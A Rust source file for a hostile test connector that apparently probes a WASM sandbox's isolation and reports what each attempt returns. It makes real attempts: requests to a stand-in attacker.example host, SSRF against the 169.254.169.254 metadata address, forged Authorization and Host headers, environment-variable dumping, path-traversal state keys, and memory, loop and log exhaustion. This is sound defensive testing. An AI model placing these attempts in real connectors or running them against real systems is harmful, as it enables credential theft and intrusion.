//! Tries what a connector must not be able to do, and answers with exactly what
//! it saw. Every attempt is real: nothing here only pretends.
//!
//! Files and sockets are tried by `../hostile-file` and `../hostile-socket`: code
//! that could use them imports `wasi:filesystem` or `wasi:sockets`, and such a
//! component is refused when it is installed.

mod exhaust;
mod import;
mod scratch;

use std::collections::BTreeMap;

use keyway_sdk::{Actions, Connector, Context, Failure, Method, Reply, Value, json};
use serde::Deserialize;

struct Hostile;

impl Connector for Hostile {
    fn actions() -> Actions {
        Actions::new()
            .action("attempt", attempt)
            .action("import", import::call)
            .action("scratch", scratch::run)
    }

    fn check(context: &Context) -> Result<String, Failure> {
        // Tries to leak the credential as the account's name.
        let reply = context
            .http()
            .get(format!("{}/anything", context.origin()?))
            .send()?;
        Ok(reply.text())
    }
}

keyway_sdk::export!(Hostile);

#[derive(Deserialize)]
struct Attempt {
    what: What,
    url: Option<String>,
    method: Option<String>,
    key: Option<String>,
}

#[derive(Deserialize, Clone, Copy)]
#[serde(rename_all = "snake_case")]
enum What {
    OtherHost,
    OtherMethod,
    OtherPath,
    PrivateAddress,
    Redirect,
    ReflectCredential,
    OwnAuthorization,
    ReadEnvironment,
    EndlessLoop,
    MemoryBomb,
    LogFlood,
    OtherTenantState,
}

fn attempt(context: &Context, input: Attempt) -> Result<Value, Failure> {
    let origin = context.origin()?;
    let url = |default: String| input.url.clone().unwrap_or(default);
    let method = Method::from(input.method.as_deref().unwrap_or("GET"));
    let seen = match input.what {
        What::OtherHost => send(
            context,
            method,
            url("https://attacker.example/anything".to_owned()),
        ),
        What::OtherMethod => {
            let method = input.method.as_deref().unwrap_or("DELETE");
            send(
                context,
                Method::from(method),
                url(format!("{origin}/anything")),
            )
        }
        What::OtherPath => send(context, method, url(format!("{origin}/admin"))),
        What::PrivateAddress => send(
            context,
            method,
            url("http://169.254.169.254/latest/meta-data".to_owned()),
        ),
        // A 3xx reply is shown as it is; the guest then follows it by itself.
        What::Redirect => redirect(context, url(format!("{origin}/anything"))),
        What::ReflectCredential => send(context, method, url(format!("{origin}/anything"))),
        What::OwnAuthorization => own_authorization(context, url(format!("{origin}/anything"))),
        What::ReadEnvironment => environment(),
        What::EndlessLoop => exhaust::time(),
        What::MemoryBomb => exhaust::memory(),
        What::LogFlood => exhaust::log(context),
        What::OtherTenantState => state(context, input.key.as_deref()),
    };
    Ok(seen)
}

fn send(context: &Context, method: Method, url: String) -> Value {
    shown(context.http().request(method, url).send())
}

fn redirect(context: &Context, url: String) -> Value {
    let first = context.http().get(url).send();
    let target = first
        .as_ref()
        .ok()
        .and_then(|reply| reply.header("location"))
        .map(str::to_owned);
    let first = shown(first);
    match target {
        Some(target) => {
            let followed = send(context, Method::Get, target.clone());
            json!({ "outcome": "redirected", "reply": first, "location": target, "followed": followed })
        }
        None => first,
    }
}

fn own_authorization(context: &Context, url: String) -> Value {
    let request = context.http().get(url);
    shown(
        request
            .header("Authorization", "Bearer chosen-by-the-guest")
            .header("Host", "attacker.example")
            .header("Proxy-Authorization", "Basic Z3Vlc3Q6Z3Vlc3Q=")
            .send(),
    )
}

#[expect(clippy::disallowed_methods, reason = "the offence that is tried")]
fn environment() -> Value {
    let variables: BTreeMap<String, String> = std::env::vars().collect();
    let arguments: Vec<String> = std::env::args().collect();
    json!({ "outcome": "read", "variables": variables, "arguments": arguments })
}

// Keys that would leave this connection's view if the host joined paths.
fn state(context: &Context, key: Option<&str>) -> Value {
    let given = key.unwrap_or("cursor");
    let tried = [
        given,
        "../cursor",
        "../../other/cursor",
        "/",
        "%2e%2e/cursor",
        "*",
        "\0",
    ];
    let seen: BTreeMap<&str, String> = tried
        .iter()
        .map(|key| (*key, format!("{:?}", context.state().get(key))))
        .collect();
    let written = format!("{:?}", context.state().set("../cursor", "overwritten"));
    json!({ "outcome": "tried", "seen": seen, "written": written })
}

fn shown(outcome: Result<Reply, Failure>) -> Value {
    match outcome {
        Ok(reply) => {
            let headers: BTreeMap<&str, String> = reply
                .headers()
                .map(|(name, value)| (name, String::from_utf8_lossy(value).into_owned()))
                .collect();
            json!({
                "outcome": "answered",
                "status": reply.status(),
                "headers": headers,
                "body": reply.text(),
            })
        }
        Err(failure) => {
            json!({ "outcome": "refused", "failure": format!("{failure:?}"), "text": failure.to_string() })
        }
    }
}
